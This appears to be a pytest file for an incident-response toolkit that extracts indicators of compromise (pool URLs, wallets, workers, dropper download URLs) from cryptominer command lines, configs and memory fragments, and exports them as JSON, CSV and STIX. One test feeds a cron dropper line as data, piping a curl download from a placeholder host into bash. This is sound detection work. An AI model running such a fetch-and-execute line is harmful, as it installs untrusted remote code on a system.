"""IOC extraction from miner command lines and configs; wallet formats and checksums."""

import csv
import io
import json

import pytest
from minersample import synthetic_monero_wallet

from irkit.analysis.iocs import (
    download_iocs,
    iocs_csv,
    iocs_from_argv,
    iocs_from_command,
    iocs_from_config,
    iocs_json,
    iocs_stix,
)
from irkit.analysis.wallets import classify_wallet, find_wallets
from irkit.hunt.around import around_in_data
from irkit.hunt.hits import MatchedString, YaraHit, excerpt

WALLET = synthetic_monero_wallet()


@pytest.mark.parametrize(
    ("address", "currency", "valid"),
    [
        (WALLET, "monero", True),
        (WALLET[:-1] + ("A" if WALLET[-1] != "A" else "B"), "monero", False),
        ("1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2", "bitcoin", True),
        ("3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy", "bitcoin", True),
        ("bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq", "bitcoin", True),
        ("bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdx", "bitcoin", False),
        ("0x52908400098527886E0F7030069857D2E4169EE7", "ethereum", True),
        ("0x52908400098527886E0F7030069857D2E4169Ee7", "ethereum", False),
    ],
)
def test_wallet_formats_and_checksums(address: str, currency: str, valid: bool) -> None:
    wallet = classify_wallet(address)
    assert wallet is not None
    assert (wallet.currency, wallet.validated) == (currency, valid)


def test_base58_lookalikes_without_checksum_are_not_wallets() -> None:
    assert find_wallets("session 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN3 ok") == []
    assert classify_wallet("hello") is None


def test_xmrig_command_line() -> None:
    argv = [
        "./kworker",
        "-o",
        "stratum+ssl://pool.example.net:14433",
        "-u",
        f"{WALLET}.rig7",
        "-p",
        "x",
        "-a",
        "rx/0",
        "--donate-level=1",
    ]
    found = {(i.ioc_type, i.value, i.validated) for i in iocs_from_argv(argv, "pid 7")}
    assert ("pool-url", "stratum+ssl://pool.example.net:14433", None) in found
    assert ("pool-host", "pool.example.net:14433", None) in found
    assert ("wallet", WALLET, True) in found
    assert ("worker", "rig7", None) in found
    assert ("algorithm", "rx/0", None) in found
    assert not any(kind == "worker" and value == "x" for kind, value, _ in found)


def test_gpu_miner_command_line() -> None:
    command = (
        "./lolMiner --algo ETCHASH --pool etc.example.org:1010 "
        "--user 0x52908400098527886E0F7030069857D2E4169EE7.gpu1"
    )
    found = {(i.ioc_type, i.value) for i in iocs_from_command(command, "cron")}
    assert ("pool-host", "etc.example.org:1010") in found
    assert ("wallet", "0x52908400098527886E0F7030069857D2E4169EE7") in found
    assert ("worker", "gpu1") in found
    assert ("algorithm", "ETCHASH") in found


def test_modern_xmrig_config_with_bare_host_port() -> None:
    config = json.dumps(
        {
            "donate-level": 1,
            "randomx": {"mode": "auto"},
            "pools": [
                {"url": "10.9.8.7:3333", "user": WALLET, "pass": "w2", "algo": "rx/0", "tls": False}
            ],
        }
    )
    found = {(i.ioc_type, i.value) for i in iocs_from_config(config, "config.json")}
    assert {
        ("pool-host", "10.9.8.7:3333"),
        ("wallet", WALLET),
        ("worker", "w2"),
        ("algorithm", "rx/0"),
    } <= found


def test_corrupt_config_falls_back_to_text() -> None:
    broken = '{"pools": [{"url": "stratum+tcp://p.example:3333", "user": "' + WALLET
    found = {(i.ioc_type, i.value) for i in iocs_from_config(broken, "c")}
    assert ("pool-url", "stratum+tcp://p.example:3333") in found
    assert ("wallet", WALLET) in found


def test_outputs_json_csv_and_stix() -> None:
    iocs = iocs_from_argv(["m", "-o", "stratum+tcp://1.2.3.4:3333", "-u", WALLET + ".w"], "pid 1")
    assert {i["ioc_type"] for i in json.loads(iocs_json(iocs))} >= {"pool-url", "wallet"}
    rows = list(csv.DictReader(io.StringIO(iocs_csv(iocs).decode())))
    assert {r["type"] for r in rows} >= {"pool-url", "wallet", "worker"}
    bundle = json.loads(iocs_stix(iocs, host="h"))
    assert bundle["type"] == "bundle"
    indicators = [o for o in bundle["objects"] if o["type"] == "indicator"]
    patterns = {o["pattern"] for o in indicators}
    assert "[url:value = 'stratum+tcp://1.2.3.4:3333']" in patterns
    assert "[ipv4-addr:value = '1.2.3.4']" in patterns
    for obj in bundle["objects"]:
        assert obj["spec_version"] == "2.1"
        assert obj["id"].startswith(obj["type"] + "--")
    note = next(o for o in bundle["objects"] if o["type"] == "note")
    assert "worker: w" in note["content"]
    assert set(note["object_refs"]) == {o["id"] for o in indicators}


STOCK_CONFIG = json.dumps(
    {
        "pools": [
            {"url": "donate.v2.xmrig.com:3333", "user": "YOUR_WALLET_ADDRESS", "pass": "x"},
            {"url": "randomx.xmrig.com:443", "user": "worker1", "rig-id": "worker1"},
        ]
    }
)


@pytest.mark.parametrize("source", ["file", "memory"])
def test_help_text_donation_hosts_and_placeholders_are_no_iocs(source: str) -> None:
    assert iocs_from_config(STOCK_CONFIG, "xmrig binary", source) == []
    docs = "stratum+tcp://203.0.113.7:3333 and pool.example.com:4444"
    assert iocs_from_config(docs, "README", source) == []


def test_the_same_hosts_in_live_use_stay() -> None:
    argv = ["xmrig", "-o", "randomx.xmrig.com:443", "-u", "YOUR_WALLET_ADDRESS", "-p", "x"]
    found = {(i.ioc_type, i.value) for i in iocs_from_argv(argv, "pid 9")}
    assert ("pool-host", "randomx.xmrig.com:443") in found
    assert not any(kind in ("wallet", "pool-login", "worker") for kind, _ in found)
    live = iocs_from_argv(["m", "-o", "stratum+tcp://203.0.113.7:3333"], "pid 9")
    assert ("pool-host", "203.0.113.7:3333") in {(i.ioc_type, i.value) for i in live}


def test_the_download_url_of_a_cron_dropper_and_its_host() -> None:
    line = "curl -fsSL http://198.51.100.23:8080/ldr.sh | bash; wget -q https://dl.evil.test/x -O-"
    found = {(i.ioc_type, i.value, i.source) for i in download_iocs(line, "cron line 4")}
    assert ("download-url", "http://198.51.100.23:8080/ldr.sh", "persistence") in found
    assert ("download-host", "198.51.100.23", "persistence") in found
    assert ("download-url", "https://dl.evil.test/x", "persistence") in found


def test_a_config_cut_out_of_memory_still_gives_pool_wallet_and_worker() -> None:
    window = (
        'ge-pages":true},"pools":[{"url":"10.1.2.3:3333","user":"' + WALLET
        + '","pass":"x","rig-id":"rig01","algo":"rx/0","keepalive":true,"tl'
    )  # fmt: skip
    found = {(i.ioc_type, i.value) for i in iocs_from_config(window, "pid 1 at 0x10", "memory")}
    assert {("pool-host", "10.1.2.3:3333"), ("wallet", WALLET), ("worker", "rig01")} <= found


def test_a_wallet_cut_in_the_excerpt_is_read_whole_around_the_match() -> None:
    data = b"\0" * 300 + b'{"login":"' + WALLET.encode() + b'","pass":"x"}' + b"\0" * 50
    offset = data.index(b"login")
    hit = YaraHit("Pool_Login", "t", "critical", "", "f", "file")
    hit.add_strings([MatchedString("$login", offset, 5, excerpt(data[offset : offset + 200]))])
    assert WALLET not in hit.strings[0].excerpt, "the excerpt is cut at 64 bytes"
    wallets = [i.value for i in iocs_from_config(around_in_data(hit, data), "f", "file")]
    assert wallets == [WALLET]
